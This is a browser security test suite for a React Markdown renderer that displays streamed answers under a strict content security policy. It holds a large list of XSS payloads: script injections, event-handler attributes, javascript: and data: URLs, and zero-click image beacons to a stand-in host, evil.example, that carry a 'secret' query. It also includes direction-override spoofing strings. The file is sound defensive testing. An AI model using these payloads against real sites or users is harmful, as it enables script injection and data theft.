/**
 * Hostile answers in a real browser, on a page whose policy lets nothing in and wants trusted types:
 * whole, at eight places of their stream, and as a server would send them.
 */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { chromium, type Browser, type Page } from "playwright";
import { createElement } from "react";
import { renderToString } from "react-dom/server";
import { build, type Plugin } from "vite";
import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
import { Markdown } from "../../src/markdown/index.js";
import { chromiumLaunchOptions } from "./chromium.js";

const EVIL = "https://evil.example";

/** Each tries to run something, to load something, or to be what an answer must not be. */
const ATTACKS: readonly string[] = [
  // Scripts and handlers
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<img src=`x` onerror=`alert(1)`>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)><summary>x</summary></details>",
  "<body onload=alert(1)>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<object data='data:text/html,<script>alert(1)</script>'></object>",
  `<a href="x" onmouseover="alert(1)">x</a>`,
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<!--><script>alert(1)</script-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?xml version='1.0'?><script>alert(1)</script>",
  "</div></section></main><script>alert(1)</script>",
  "a `code <img src=x onerror=alert(1)>` b",
  "```html\n<script>alert(1)</script>\n```",
  '```js&#x20;x" onload="alert(1)\nalert(1)\n```',
  "    <script>alert(1)</script>",
  "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
  "- <script>alert(1)</script>\n  - [ ] <img src=x onerror=alert(1)>",
  "[^a]: <script>alert(1)</script>\n\nx[^a]",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  // Addresses that run something
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\tscript:alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](java&NewLine;script&colon;alert(1))",
  "[x](<javascript:alert(1)>)",
  "[x](javascript&#58;alert(1) 'title')",
  "[x](\u0001javascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](vbscript:msgbox)",
  "[x](blob:https://evil.example/1)",
  "[x](view-source:javascript:alert(1))",
  "<javascript:alert(1)>",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "[x](//javascript:alert(1))",
  `[x](/x "onmouseover=alert(1) x='")`,
  `[x](/x"onmouseover=alert(1))`,
  '[a](https://x.example/"><script>alert(1)</script>)',
  // Requests without a click
  `![x](${EVIL}/pixel.png?q=secret)`,
  `![x](//evil.example/pixel.png)`,
  `![x][i]\n\n[i]: ${EVIL}/pixel.png?q=secret`,
  `[![x](${EVIL}/a.png)](${EVIL})`,
  "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
  `<img src="${EVIL}/a.png" srcset="${EVIL}/b.png 2x">`,
  `<link rel=stylesheet href="${EVIL}/a.css"><link rel=prefetch href="${EVIL}/b">`,
  `<style>@import "${EVIL}/a.css"; *{background:url(${EVIL}/b)}</style>`,
  `<div style="background:url(${EVIL}/a)">x</div>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href="${EVIL}/">\n\n[x](/relative)`,
  `<form action="${EVIL}"><button>Send</button></form>`,
  `<audio autoplay src="${EVIL}/a.mp3"><track src="${EVIL}/b.vtt">`,
  `<embed src="${EVIL}/a.swf"><portal src="${EVIL}">`,
  // Names and looks that are the page's
  `<a id=body name=cookie>x</a> <form id=forms name=forms>`,
  "# getElementById\n\n[^constructor]\n\n[^constructor]: x",
  "[__proto__]: /x\n\n[__proto__][] [constructor]",
  "``` osc-md-host osc-title\nx\n```",
  "safe \u202Etxet\u202C [\u202Efdp.exe](https://evil.example/a.exe) \u{E0041}",
];

const ELEMENTS =
  "a bdi blockquote br button code del div em h3 h4 h5 h6 hr input li ol p pre section span strong sup table tbody td th thead tr ul";
const ATTRIBUTES =
  "aria-label aria-live checked class dir disabled href id referrerpolicy rel role scope start tabindex target title type";

const POLICY = [
  "default-src 'none'",
  "script-src 'nonce-page'",
  "base-uri 'none'",
  "form-action 'none'",
  "require-trusted-types-for 'script'",
  "trusted-types 'none'",
].join("; ");

/** Shows one answer at a time; the test calls `showAnswer`. */
const PAGE_SCRIPT = `
  import { createElement } from "react";
  import { flushSync } from "react-dom";
  import { createRoot } from "react-dom/client";
  import { Markdown } from ${JSON.stringify(new URL("../../src/markdown/index.ts", import.meta.url).pathname)};
  const root = createRoot(document.querySelector("main"));
  window.reports = [];
  document.addEventListener("securitypolicyviolation", (event) => window.reports.push(event.violatedDirective));
  window.showAnswer = (props) => flushSync(() => root.render(createElement(Markdown, props)));
`;

let server: Server;
let browser: Browser;
let page: Page;
let origin: string;
let troubles: string[];

beforeAll(async () => {
  const script = await bundle(PAGE_SCRIPT);
  const answers = ATTACKS.map((text) => renderToString(createElement(Markdown, { text }))).join(
    "\n",
  );
  server = createServer((request, response) => {
    const isAnswers = request.url === "/answers";
    response.writeHead(request.url === "/" || isAnswers ? 200 : 404, {
      "content-type": "text/html; charset=utf-8",
      "content-security-policy": POLICY,
    });
    const body = isAnswers
      ? answers
      : `<script type="module" nonce="page">${script.replaceAll("</script", "<\\/script")}</script>`;
    response.end(`<!doctype html><main></main>${body}`);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  browser = await chromium.launch(chromiumLaunchOptions());
});

afterAll(async () => {
  await browser?.close();
  server?.closeAllConnections();
  server?.close();
});

beforeEach(async () => {
  page = await browser.newPage();
  troubles = [];
  page.on("dialog", (dialog) => {
    troubles.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on("pageerror", (error) => troubles.push(`uncaught: ${error.message}`));
  page.on("console", (message) => troubles.push(`console: ${message.text()}`));
  await page.route("**/*", (route) => {
    const url = route.request().url();
    if (url === `${origin}/` || url === `${origin}/answers`) return route.continue();
    troubles.push(`request: ${url}`);
    return route.abort();
  });
  return () => page.close();
});

async function bundle(code: string): Promise<string> {
  const entry: Plugin = {
    name: "page-script",
    resolveId: (id) => (id === "page-script" ? `${import.meta.dirname}/page-script.js` : undefined),
    load: (id) => (id.endsWith("/page-script.js") ? code : undefined),
  };
  const output = await build({
    configFile: false,
    logLevel: "silent",
    plugins: [entry],
    define: { "process.env.NODE_ENV": '"production"' },
    oxc: { jsx: { runtime: "automatic", development: false } },
    build: { write: false, target: "es2022", rollupOptions: { input: "page-script" } },
  });
  const results = Array.isArray(output) ? output : [output];
  const chunks = results.flatMap((result) => ("output" in result ? result.output : []));
  return chunks.map((chunk) => (chunk.type === "chunk" ? chunk.code : "")).join("\n");
}

/** What is on the page that no answer may have. Runs in the page, so it is a text. */
const FIND_FORBIDDEN = `(() => {
  const elements = new Set(${JSON.stringify(ELEMENTS.split(" "))});
  const attributes = new Set(${JSON.stringify(ATTRIBUTES.split(" "))});
  const isAllowed = ({ name, value }) =>
    attributes.has(name) &&
    (name !== "class" || /^(?:(?:osc-md[a-z-]*|language-[a-z0-9+#-]{1,32})(?: |$))+$/.test(value)) &&
    (name !== "id" || /-(?:note|mark)-\\d+$/.test(value));
  const all = [...document.querySelectorAll(".osc-md, .osc-md *")];
  if (all.length === 0) return ["no answer is shown"];
  return all.flatMap((element) => [
    ...(elements.has(element.localName) && element instanceof HTMLElement ? [] : ["<" + element.localName + ">"]),
    ...[...element.attributes].filter((one) => !isAllowed(one)).map(({ name, value }) => name + "=" + value),
    ...(element.localName === "a" && !/^(?:https?|mailto|tel):$/.test(element.protocol) ? [element.href] : []),
    ...(/[\\u202A-\\u202E\\u2066-\\u2069\\u{E0000}-\\u{E007F}]/u.test(element.textContent) ? ["direction"] : []),
  ]);
})()`;

async function forbiddenWhileShowing(props: {
  text: string;
  isStreaming: boolean;
}): Promise<unknown> {
  return page.evaluate(`showAnswer(${JSON.stringify(props)}); ${FIND_FORBIDDEN}`);
}

test("streamed, nothing runs, nothing is asked for, and nothing is there that may not be", async () => {
  await page.goto(origin);
  await page.waitForFunction("window.showAnswer");
  const found: unknown[] = [];
  for (const text of ATTACKS) {
    for (let place = 1; place <= 8; place += 1) {
      const prefix = text.slice(0, Math.ceil((text.length * place) / 9));
      found.push(await forbiddenWhileShowing({ text: prefix, isStreaming: true }));
    }
    found.push(await forbiddenWhileShowing({ text, isStreaming: false }));
  }
  expect(found.flat()).toEqual([]);
  expect(found).toHaveLength(ATTACKS.length * 9);
  expect(await page.evaluate("reports")).toEqual([]);
  expect(troubles).toEqual([]);
  expect(page.url()).toBe(`${origin}/`);
});

test("all of them at once, in reach of mouse and focus, do nothing either", async () => {
  await page.goto(origin);
  await page.waitForFunction("window.showAnswer");
  const text = ATTACKS.join("\n\n");
  expect(await forbiddenWhileShowing({ text, isStreaming: false })).toEqual([]);
  for (const link of await page.locator(".osc-md a").all()) await link.hover();
  for (let tabs = 0; tabs < 30; tabs += 1) await page.keyboard.press("Tab");
  expect(await page.evaluate("reports")).toEqual([]);
  expect(troubles).toEqual([]);
});

test("as a server sends them, they are as harmless", async () => {
  await page.goto(`${origin}/answers`);
  expect(await page.locator(".osc-md").count()).toBe(ATTACKS.length);
  expect(await page.evaluate(FIND_FORBIDDEN)).toEqual([]);
  expect(troubles).toEqual([]);
});

test("the page's policy does report, and the trouble is seen", async () => {
  await page.goto(origin);
  await page.waitForFunction("window.showAnswer");
  await page.evaluate(`document.body.append(Object.assign(new Image(), { src: "${EVIL}/x.png" }))`);
  await page.waitForFunction("reports.length > 0");
  expect(troubles.join()).toContain("console: ");
});
